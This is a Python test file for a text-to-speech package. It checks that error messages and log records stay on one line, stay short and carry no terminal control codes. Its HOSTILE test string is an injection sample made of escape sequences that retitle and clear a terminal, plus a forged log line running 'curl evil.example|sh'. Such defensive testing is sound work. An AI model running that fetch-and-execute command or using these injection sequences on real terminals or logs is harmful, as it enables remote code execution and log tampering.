"""What is shown of what strangers wrote: one line, bounded, and nothing in it plays with the screen."""

from __future__ import annotations

import json
import logging
from unicodedata import category

import pytest
from hypothesis import given
from hypothesis import strategies as st

from edge_tts.errors import MOST_CHARS, EdgeTTSError, VoiceError
from edge_tts.runtime.log_lines import OneLine
from edge_tts.schema import check_json
from edge_tts.voices.format import Card

HOSTILE = "x\x1b]0;owned\x07\x1b[2J\x9b2J\u202e\u2028\nNov 22 03:00:00 home systemd[1]: run: curl evil.example|sh"


def is_fit(text: str) -> bool:
    """Whether a text can be shown."""
    return len(text) <= MOST_CHARS and all(c.isprintable() or category(c) == "Zs" for c in text)


@given(st.text(st.characters()) | st.text("\n\x1b\u202ea", min_size=900))
def test_the_message_of_an_error_can_be_shown(text: str) -> None:
    """Whatever it quotes: any characters, any length."""
    assert is_fit(str(VoiceError(text)))


@pytest.mark.parametrize("text", ["", "a: 'b'", "没有声音“小梅”　，请说：“你好”", "Zoë\u00a0Ω 👍"])
def test_what_people_write_stays_as_it_is(text: str) -> None:
    """Every language's letters, marks and spaces."""
    assert str(EdgeTTSError(text)) == text


def test_a_message_of_several_lines_becomes_one() -> None:
    """Those of libraries, for instance."""
    assert str(EdgeTTSError("not YAML:\n    line 3\r\n\tcolumn 5")) == "not YAML: line 3 column 5"


@pytest.mark.parametrize("key", [HOSTILE, "A" * 60000])
def test_a_hostile_key_is_told_in_a_few_words(key: str) -> None:
    """A record that comes from outside may be called anything: what is wrong is still said, and what would be right."""
    payload = json.dumps({key: 1}).encode()
    with pytest.raises(VoiceError) as refused:
        check_json(Card, payload, error=VoiceError, what="voice.json")
    told = str(refused.value)
    assert is_fit(told)
    assert len(told) < 300
    assert told.startswith("voice.json: ")


def test_the_log_has_one_line_per_record() -> None:
    """Also where a line quotes what is no error of ours; a traceback keeps its lines."""
    announced = OneLine()
    record = logging.LogRecord("x", logging.WARNING, "x.py", 1, "refused %s", (HOSTILE,), None)
    line = announced.format(record)
    assert "WARNING x: refused x\\u001b]0;owned" in line
    assert is_fit(line)
    try:
        raise ValueError("broken")
    except ValueError as error:
        record = logging.LogRecord(
            "x", logging.ERROR, "x.py", 1, "it ends", (), (ValueError, error, error.__traceback__)
        )
    assert len(announced.format(record).splitlines()) > 3
